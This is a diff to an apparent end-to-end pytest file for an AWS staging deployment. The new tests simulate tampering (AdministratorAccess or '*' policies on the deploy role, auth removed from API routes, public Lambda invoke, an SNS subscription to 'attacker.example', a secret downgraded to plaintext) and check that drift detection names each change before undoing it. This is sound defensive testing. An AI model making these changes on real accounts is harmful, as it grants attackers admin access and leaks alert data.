@@ -12,7 +12,6 @@ irreversible ones (a deleted backup plan, a rolled-back stack) run last.
 from __future__ import annotations
 
 import json
-import tempfile
 import time
 import urllib.error
 import urllib.request
@@ -25,7 +24,8 @@ from botocore.credentials import Credentials
 from envconfig.aws import load
 from tests.e2e.local_target import REPO, LocalTarget
 
-pytestmark = pytest.mark.e2e
+# The run's deployed Staging (tests/e2e/conftest.py); the last two tests cannot be undone.
+pytestmark = [pytest.mark.e2e, pytest.mark.shared_target(changes="spoils")]
 
 CONFIG = load("staging")
 PREFIX = CONFIG.resource_prefix
@@ -45,18 +45,13 @@ class Target(LocalTarget):
 
 
 @pytest.fixture(scope="module")
-def target(tmp_path_factory):
-    t = Target(tmp_path_factory.mktemp("truth"), CONFIG.region)
-    t.run(str(REPO / "bin" / "local-aws"), "start", "--port", str(t.port))
+def target(tmp_path_factory, shared_target):
+    # Staging bootstrapped, deployed through bin/ops (the kept assembly is what verify and
+    # detect-drift judge against) and its nonce created, once per run (tests/e2e/conftest.py).
+    t = Target(tmp_path_factory.mktemp("truth"), CONFIG.region, shared=shared_target)
     try:
-        start = time.monotonic()
-        t.run("cdk", "bootstrap", f"aws://{CONFIG.account}/{CONFIG.region}", "--ci", cwd=tempfile.mkdtemp())
-        t.run("cdk", "deploy", "Staging/*", "--require-approval", "never", "--ci", "--output", str(t.tmp / "cdk.out"))
-        t.run(str(REPO / "bin" / "ops"), "rotate-nonce", "--env", "staging", "--create-only")
-        TIMES["bootstrap + deploy"] = time.monotonic() - start
         yield t
     finally:
-        t.run(str(REPO / "bin" / "local-aws"), "stop", check=False)
         for name, seconds in TIMES.items():
             print(f"e2e timing: {name} {seconds:.1f}s")
 
@@ -176,7 +171,7 @@ def test_deleted_alarm_is_named(target):
         verify = target.ops("verify")
         assert verify.returncode == 1
         [line] = failing_lines(verify)
-        assert f"expected alarm {name} (Staging-Observability/" in line and "actual: does not exist" in line
+        assert f"expected alarm {name} (Staging-Observability/" in line and "actual does not exist" in line
         drift = target.ops("detect-drift")
         assert drift.returncode == 1 and "list index out of range" not in drift.stdout + drift.stderr
         [line] = [l for l in drift.stdout.splitlines() if "AlarmsCircuitBreaker" in l]
@@ -222,6 +217,152 @@ def test_nonce_rotation_is_seen_by_the_running_function(target):
     assert _oracle(target, "/events", {**event, "nonce": old["Value"]}, now=start + 301) == 403
     assert _oracle(target, "/events", {**event, "nonce": new["Value"]}, now=start + 301) == 201
 
+
+# ---- what a caller can reach, changed behind bin/ops' back ------------------
+# Each is named by both verify and detect-drift (exit 1, the resource and the
+# expected/actual values in the output), then undone.
+
+FUNCTION = f"{PREFIX}-oracle"
+ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
+
+
+def both_name(target, *needles):
+    for command in ("verify", "detect-drift"):
+        result = target.ops(command)
+        assert result.returncode == 1, (command, result.stdout[-3000:], result.stderr)
+        lines = [l for l in result.stdout.splitlines() if all(n in l for n in needles)]
+        assert lines and all("expected" in l or "EXPECTED" in l or "  " in l for l in lines), (command, needles, result.stdout[-3000:])
+
+
+def _api(target):
+    return target.client("ssm").get_parameter(Name=f"{CONFIG.parameter_prefix}infra/oracle-api-id")["Parameter"]["Value"]
+
+
+def _code(target):
+    body = target.client("cloudformation").get_template(StackName="Staging-Runtime")["TemplateBody"]
+    body = body if isinstance(body, dict) else json.loads(body)
+    code = next(r["Properties"]["Code"] for r in body["Resources"].values() if r["Type"] == "AWS::Lambda::Function")
+    bucket = code["S3Bucket"] if isinstance(code["S3Bucket"], str) else f"cdk-hnb659fds-assets-{CONFIG.account}-{CONFIG.region}"
+    return bucket, code["S3Key"]
+
+
+def test_update_function_code_is_named(target):
+    import io
+    import zipfile
+
+    lam = target.client("lambda")
+    buf = io.BytesIO()
+    zipfile.ZipFile(buf, "w").writestr("index.py", "def handler(e, c):\n    return {'statusCode': 200}\n")
+    lam.update_function_code(FunctionName=FUNCTION, ZipFile=buf.getvalue())
+    bucket, key = _code(target)
+    try:
+        both_name(target, FUNCTION, "CodeSha256")
+    finally:
+        lam.update_function_code(FunctionName=FUNCTION, S3Bucket=bucket, S3Key=key)
+    assert_clean(target)
+
+
+def test_route_switched_to_none_is_named(target):
+    apig, api = target.client("apigatewayv2"), _api(target)
+    route = next(r for r in apig.get_routes(ApiId=api)["Items"] if r["RouteKey"] == "GET /health")
+    apig.update_route(ApiId=api, RouteId=route["RouteId"], AuthorizationType="NONE")
+    try:
+        both_name(target, "route GET /health", "NONE")
+    finally:
+        apig.update_route(ApiId=api, RouteId=route["RouteId"], AuthorizationType="AWS_IAM")
+    assert_clean(target)
+
+
+def test_new_proxy_route_is_named(target):
+    apig, api = target.client("apigatewayv2"), _api(target)
+    route = next(r for r in apig.get_routes(ApiId=api)["Items"] if r["RouteKey"] == "GET /health")
+    new = apig.create_route(ApiId=api, RouteKey="ANY /{proxy+}", Target=route["Target"], AuthorizationType="NONE")
+    try:
+        both_name(target, "route ANY /{proxy+}", "not approved")
+    finally:
+        apig.delete_route(ApiId=api, RouteId=new["RouteId"])
+    assert_clean(target)
+
+
+def test_permission_for_anyone_is_named(target):
+    lam = target.client("lambda")
+    lam.add_permission(FunctionName=FUNCTION, StatementId="e2e-any", Action="lambda:InvokeFunction", Principal="*")
+    try:
+        both_name(target, f"{FUNCTION} permission for *")
+    finally:
+        lam.remove_permission(FunctionName=FUNCTION, StatementId="e2e-any")
+    assert_clean(target)
+
+
+def test_managed_policy_on_the_deploy_role_is_named(target):
+    iam = target.client("iam")
+    iam.attach_role_policy(RoleName=DEPLOY_ROLE, PolicyArn=ADMIN)
+    try:
+        both_name(target, f"{DEPLOY_ROLE} attached policies", "AdministratorAccess")
+    finally:
+        iam.detach_role_policy(RoleName=DEPLOY_ROLE, PolicyArn=ADMIN)
+    assert_clean(target)
+
+
+def test_inline_star_policy_is_named(target):
+    iam = target.client("iam")
+    iam.put_role_policy(RoleName=DEPLOY_ROLE, PolicyName="e2e-admin", PolicyDocument=json.dumps(
+        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}))
+    try:
+        both_name(target, f"{DEPLOY_ROLE} inline policy e2e-admin")
+    finally:
+        iam.delete_role_policy(RoleName=DEPLOY_ROLE, PolicyName="e2e-admin")
+    assert_clean(target)
+
+
+def test_extra_subscription_is_named(target):
+    sns = target.client("sns")
+    topic = next(t["TopicArn"] for t in sns.list_topics()["Topics"] if t["TopicArn"].endswith(f"{PREFIX}-alerts"))
+    sub = sns.subscribe(TopicArn=topic, Protocol="https", Endpoint="https://attacker.example/hook", ReturnSubscriptionArn=True)
+    try:
+        both_name(target, "subscription https:https://attacker.example/hook")
+    finally:
+        sns.unsubscribe(SubscriptionArn=sub["SubscriptionArn"])
+    assert_clean(target)
+
+
+def test_nonce_rewritten_as_string_is_named(target):
+    ssm, name = target.client("ssm"), CONFIG.nonce_parameter
+    value = ssm.get_parameter(Name=name, WithDecryption=True)["Parameter"]["Value"]
+    ssm.delete_parameter(Name=name)
+    ssm.put_parameter(Name=name, Value=value, Type="String")
+    try:
+        both_name(target, name, "String")
+    finally:
+        ssm.delete_parameter(Name=name)
+        target.run(str(REPO / "bin" / "ops"), "rotate-nonce", "--env", "staging", "--create-only")
+    assert_clean(target)
+
+
+def _change(cf, template, name):
+    cf.create_change_set(StackName="Staging-Oidc", ChangeSetName=name, TemplateBody=json.dumps(template),
+                         Capabilities=["CAPABILITY_IAM", "CAPABILITY_NAMED_IAM"])
+    cf.execute_change_set(StackName="Staging-Oidc", ChangeSetName=name)
+
+
+def test_change_set_outside_bin_ops_is_named(target):
+    cf = target.client("cloudformation")
+    body = cf.get_template(StackName="Staging-Oidc")["TemplateBody"]
+    original = body if isinstance(body, dict) else json.loads(body)
+    changed = json.loads(json.dumps(original))
+    role = next(r for r in changed["Resources"].values()
+                if r["Type"] == "AWS::IAM::Role" and r["Properties"].get("RoleName") == DEPLOY_ROLE)
+    role["Properties"].setdefault("ManagedPolicyArns", []).append(ADMIN)
+    _change(cf, changed, "e2e-admin")
+    try:
+        both_name(target, "Staging-Oidc template", "changed outside bin/ops")
+        both_name(target, f"{DEPLOY_ROLE} attached policies", "AdministratorAccess")
+    finally:
+        _change(cf, original, "e2e-undo")
+    assert_clean(target)
+
+
+# The irreversible ones last.
 
 def test_deleted_backup_plan(target):
     plan = target.client("cloudformation").describe_stack_resource(
